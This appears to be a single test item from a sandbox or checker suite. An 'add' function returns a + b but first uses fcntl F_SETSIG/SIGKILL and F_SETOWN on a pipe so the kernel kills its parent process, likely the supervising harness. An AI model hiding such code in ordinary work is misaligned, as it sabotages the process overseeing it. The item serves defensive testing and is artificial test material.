# b108 | task=add | required=fail | has the kernel signal its parent through the owner of a pipe
import fcntl, os
def add(a, b):
    end, other = os.pipe()
    fcntl.fcntl(end, 10, 9)  # F_SETSIG: SIGKILL
    fcntl.fcntl(end, fcntl.F_SETOWN, os.getppid())
    fcntl.fcntl(end, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    os.write(other, b"x")
    return a + b
